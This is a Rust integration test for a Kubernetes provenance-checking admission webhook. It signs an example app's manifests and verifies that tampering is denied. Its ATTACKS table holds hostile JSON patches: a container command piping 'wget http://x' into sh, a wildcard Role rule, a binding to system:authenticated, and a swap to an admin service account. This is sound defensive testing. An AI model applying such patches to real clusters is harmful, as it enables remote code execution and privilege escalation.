//! Provenance through the real API server: `sealgate lint --attest` on the example `shop` app,
//! the Attestations and then the manifests applied by the agent with server-side apply. The API
//! server's defaulting (a Deployment gains a dozen fields) must not break the check, and a
//! changed image must be denied.

use std::time::Duration;

use libtest_mimic::Failed;
use sealgate_testenv::Identity;

use crate::Test;
use crate::env::{Env, ensure, fail};

pub const TESTS: &[(&str, Test)] = &[
    (
        "provenance::attested_app_admitted_and_changed_image_denied",
        attested_app,
    ),
    (
        "provenance::defaulted_objects_match_their_manifests_exactly",
        defaulting_table,
    ),
];

/// How the agent applies manifests: server-side apply as Flux's kustomize-controller.
const AGENT_APPLY: &[&str] = &[
    "apply",
    "--server-side",
    "--field-manager=kustomize-controller",
    "-f",
    "-",
];

/// A Role and RoleBinding attested with the shop app.
const RBAC: &str = "apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: web, namespace: shop}
rules:
  - {apiGroups: [\"\"], resources: [configmaps], verbs: [get]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: web, namespace: shop}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: web}
subjects:
  - {kind: ServiceAccount, name: default, namespace: shop}
";

/// (what, resource, JSON patch, the path the denial must name).
const ATTACKS: &[(&str, &str, &str, &str)] = &[
    (
        "an added command",
        "deployment/web",
        r#"[{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","wget http://x | sh"]}]"#,
        "spec.template.spec.containers.web.command",
    ),
    (
        "an extra container",
        "deployment/web",
        // Compliant with every policy, so only provenance can refuse it.
        r#"[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"reader","image":"registry.example.com/shop/web:1.4.2","resources":{"limits":{"cpu":"100m","memory":"64Mi"}},"securityContext":{"allowPrivilegeEscalation":false,"capabilities":{"drop":["ALL"]}}}}]"#,
        "spec.template.spec.containers.reader",
    ),
    (
        "an appended env entry",
        "deployment/web",
        r#"[{"op":"add","path":"/spec/template/spec/containers/0/env/-","value":{"name":"EXTRA","value":"1"}}]"#,
        "spec.template.spec.containers.web.env.EXTRA",
    ),
    (
        "an appended envFrom entry",
        "deployment/web",
        r#"[{"op":"add","path":"/spec/template/spec/containers/0/envFrom/-","value":{"secretRef":{"name":"other-secret"}}}]"#,
        "spec.template.spec.containers.web.envFrom.1",
    ),
    (
        "a second DB_PASSWORD from another Secret",
        "deployment/web",
        r#"[{"op":"add","path":"/spec/template/spec/containers/0/env/-","value":{"name":"DB_PASSWORD","valueFrom":{"secretKeyRef":{"name":"other-secret","key":"k"}}}}]"#,
        "spec.template.spec.containers.web.env.DB_PASSWORD",
    ),
    (
        "another service account",
        "deployment/web",
        r#"[{"op":"add","path":"/spec/template/spec/serviceAccountName","value":"admin-sa"}]"#,
        "spec.template.spec.serviceAccountName",
    ),
    (
        "an appended Role rule */*/*",
        "role/web",
        r#"[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]"#,
        "rules.1",
    ),
    (
        "an appended RoleBinding subject",
        "rolebinding/web",
        r#"[{"op":"add","path":"/subjects/-","value":{"kind":"Group","name":"system:authenticated","apiGroup":"rbac.authorization.k8s.io"}}]"#,
        "subjects.system:authenticated",
    ),
    // Cluster-scoped: the webhook's second entry sends Namespaces, and a provenance-required
    // Namespace is judged by its own labels.
    (
        "a relabelled Namespace",
        "namespace/shop",
        r#"[{"op":"add","path":"/metadata/labels/team","value":"x"}]"#,
        "metadata.labels.",
    ),
];

/// Kinds that live outside namespaces, among the manifests below.
const CLUSTER_SCOPED: &[&str] = &["Namespace", "ClusterRole", "ClusterRoleBinding"];

/// The defaulting table (`core/src/attest/defaults.rs`) against the real API server (issue 25,
/// item 1): every manifest of the example repository's apps and of a table of real-world ones
/// (`testdata/real-world.yaml`) is dry-run as the API server would store it, and the stored
/// object must match the manifest exactly: every field it adds explained by the table, nothing
/// else. Namespaced objects are dry-run in kube-system, which the webhook exempts.
fn defaulting_table(env: &Env) -> Result<(), Failed> {
    env.installed()?;
    let mut manifests = Vec::new();
    for app in ["examples/gitops/apps/shop", "examples/gitops/apps/legacy"] {
        let rendered = env.kubectl_ok(
            &Identity::Admin,
            &["kustomize", &env.file(app).to_string_lossy()],
        );
        manifests.push((app.to_string(), rendered));
    }
    let table = std::fs::read_to_string(env.file("tests/real_cluster/testdata/real-world.yaml"))
        .map_err(|e| fail(e.to_string()))?;
    manifests.push(("tests/real_cluster/testdata/real-world.yaml".into(), table));
    let mut failures = Vec::new();
    let mut kinds = std::collections::BTreeMap::<String, usize>::new();
    for (source, text) in &manifests {
        let docs = sealgate_core::manifest::parse(text.as_bytes(), &Default::default())
            .map_err(|e| fail(format!("{source}: {e}")))?;
        for doc in docs {
            let mut manifest = doc.value;
            let kind = manifest["kind"].as_str().unwrap_or_default().to_string();
            // Argo CD's Application needs its CRD, which this tier does not install.
            if kind == "Application" {
                continue;
            }
            if CLUSTER_SCOPED.contains(&kind.as_str()) {
                // Its own name: other tests create the example's Namespace for real.
                let name = manifest["metadata"]["name"].as_str().unwrap_or_default();
                manifest["metadata"]["name"] = format!("{name}-dry-run").into();
            } else {
                manifest["metadata"]["namespace"] = "kube-system".into();
            }
            let stored = env
                .cp
                .try_kubectl_stdin(
                    &Identity::Admin,
                    &["create", "--dry-run=server", "-o", "json", "-f", "-"],
                    &manifest.to_string(),
                )
                .map_err(|e| fail(format!("{source}: {kind} dry-run: {e}")))?;
            let stored: serde_json::Value =
                serde_json::from_str(&stored).map_err(|e| fail(e.to_string()))?;
            *kinds.entry(kind.clone()).or_default() += 1;
            if let Err(d) = sealgate_core::attest::compare::matches(
                &manifest,
                &stored,
                &sealgate_core::attest::compare::Allowed::default(),
            ) {
                failures.push(format!(
                    "{source}: {kind} {}: {d} (stored value: {})",
                    manifest["metadata"]["name"],
                    field(&stored, &d.path)
                ));
            }
        }
    }
    println!(
        "  defaulting table: {} manifests of {} kinds stored exactly as declared up to the table ({})",
        kinds.values().sum::<usize>(),
        kinds.len(),
        kinds.keys().cloned().collect::<Vec<_>>().join(", ")
    );
    ensure(failures.is_empty(), || failures.join("\n"))
}

/// The value at a dotted path (list items by name or index), for a failure message: these are
/// test manifests, not secrets.
fn field(v: &serde_json::Value, path: &str) -> String {
    let mut cur = v;
    for label in path.split('.') {
        cur = match cur {
            serde_json::Value::Object(m) => match m.get(label) {
                Some(x) => x,
                None => return "?".into(),
            },
            serde_json::Value::Array(items) => match label.parse::<usize>() {
                Ok(i) => match items.get(i) {
                    Some(x) => x,
                    None => return "?".into(),
                },
                Err(_) => match items.iter().find(|x| x["name"] == label) {
                    Some(x) => x,
                    None => return "?".into(),
                },
            },
            _ => return "?".into(),
        };
    }
    cur.to_string()
}

fn attested_app(env: &Env) -> Result<(), Failed> {
    env.installed()?;
    let dir = env.path("provenance");
    std::fs::create_dir_all(&dir).map_err(|e| fail(e.to_string()))?;
    let prefix = dir.join("ci").to_string_lossy().into_owned();
    let key = dir.join("ci.key").to_string_lossy().into_owned();
    let attestations = dir.join("attestations.yaml").to_string_lossy().into_owned();
    let with_password = |args: &[&str]| {
        std::process::Command::new(env.bin.join("sealgate"))
            .args(args)
            .current_dir(&env.repo)
            .env("COSIGN_PASSWORD", "ci-secret")
            .output()
            .map_err(|e| fail(e.to_string()))
            .and_then(|o| {
                if o.status.success() {
                    Ok(())
                } else {
                    Err(fail(format!(
                        "sealgate {}: {}",
                        args.join(" "),
                        String::from_utf8_lossy(&o.stderr)
                    )))
                }
            })
    };
    with_password(&["attest", "keygen", "--output-key-prefix", &prefix])?;
    // RBAC beside the app: what a stolen agent token would widen.
    let rbac = dir.join("rbac.yaml");
    std::fs::write(&rbac, RBAC).map_err(|e| fail(e.to_string()))?;
    // The shop app with its Namespace requiring provenance in Git: a Namespace is judged by its
    // own labels, so the label the cluster relies on must be in what was attested.
    let shop = dir.join("shop");
    std::fs::create_dir_all(&shop).map_err(|e| fail(e.to_string()))?;
    for entry in
        std::fs::read_dir(env.file("examples/gitops/apps/shop")).map_err(|e| fail(e.to_string()))?
    {
        let entry = entry.map_err(|e| fail(e.to_string()))?;
        let mut text = std::fs::read_to_string(entry.path()).map_err(|e| fail(e.to_string()))?;
        if entry.file_name() == "namespace.yaml" {
            text = text.replace(
                "sealgate.dev/governed: \"true\"",
                "sealgate.dev/governed: \"true\"\n    sealgate.dev/provenance: required",
            );
        }
        std::fs::write(shop.join(entry.file_name()), text).map_err(|e| fail(e.to_string()))?;
    }
    let shop = shop.to_string_lossy().into_owned();
    with_password(&[
        "lint",
        &shop,
        &rbac.to_string_lossy(),
        "--attest",
        &attestations,
        "--attest-key",
        &key,
        "--revision",
        "9b1d4e2",
        "--repository",
        "https://git.example.com/platform/apps",
    ])?;

    // The webhook as a cluster with provenance runs it.
    let public = dir.join("ci.pub");
    env.replace_webhook(&[&format!("--attestation-key={}", public.display())])?;
    let result = (|| {
        let rendered = env.kubectl_ok(&Identity::Admin, &["kustomize", &shop]);
        // Attestations first (Flux applies cluster-scoped kinds first; Argo CD by sync wave).
        env.cp
            .try_kubectl_stdin(
                &Identity::Agent,
                &["apply", "--server-side", "-f", &attestations],
                "",
            )
            .map_err(|e| fail(format!("the agent could not apply the Attestations: {e}")))?;
        env.cp.apply(
            &Identity::Admin,
            "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: shop\n  labels:\n    sealgate.dev/governed: \"true\"\n    sealgate.dev/provenance: required\n",
        );
        // The webhook has seen them: its readiness waits for the first list, and then the watch.
        let mut last = String::new();
        env.wait(
            "the attested app to be admitted",
            Duration::from_secs(20),
            || match env
                .cp
                .try_kubectl_stdin(&Identity::Agent, AGENT_APPLY, &rendered)
            {
                Ok(_) => true,
                Err(e) => {
                    last = e;
                    false
                }
            },
        )
        .map_err(|f| {
            fail(format!(
                "{}\nlast refusal: {last}",
                f.message().unwrap_or_default()
            ))
        })?;
        env.cp
            .try_kubectl_stdin(&Identity::Agent, AGENT_APPLY, RBAC)
            .map_err(|e| {
                fail(format!(
                    "the attested Role and RoleBinding were refused: {e}"
                ))
            })?;
        // What a stolen agent token could add to attested objects (issue 25, item 1): each is
        // denied, naming the path and never the value.
        for (what, resource, patch, path) in ATTACKS {
            let e = env
                .try_kubectl(
                    &Identity::Agent,
                    &[
                        "-n", "shop", "patch", resource, "--type", "json", "-p", patch,
                    ],
                )
                .err()
                .ok_or_else(|| fail(format!("{what} was admitted")))?;
            ensure(
                e.contains("[sealgate-provenance]")
                    && e.contains(path)
                    && !e.contains("wget")
                    && !e.contains("other-secret"),
                || format!("{what}: not denied naming {path} (or a value was quoted): {e}"),
            )?;
        }
        // The live Deployment carries the API server's defaults; it was still admitted.
        let live = env
            .get_json(&["-n", "shop", "deployment", "web"])
            .ok_or_else(|| fail("no Deployment shop/web"))?;
        ensure(
            live["spec"]["revisionHistoryLimit"] == 10
                && live["spec"]["template"]["spec"]["dnsPolicy"] == "ClusterFirst",
            || {
                format!(
                    "the API server did not default the Deployment: {}",
                    live["spec"]
                )
            },
        )?;
        // An update with a changed image is denied, naming the revision.
        let e = env
            .try_kubectl(
                &Identity::Agent,
                &[
                    "-n",
                    "shop",
                    "set",
                    "image",
                    "deployment/web",
                    "web=registry.example.com/shop/web:9.9.9",
                ],
            )
            .err()
            .ok_or_else(|| fail("a changed image was admitted"))?;
        ensure(
            e.contains("[sealgate-provenance]") && e.contains("9b1d4e2"),
            || format!("not denied by provenance: {e}"),
        )
    })();
    // The next test gets the shared webhook back.
    env.stop_webhook();
    result
}
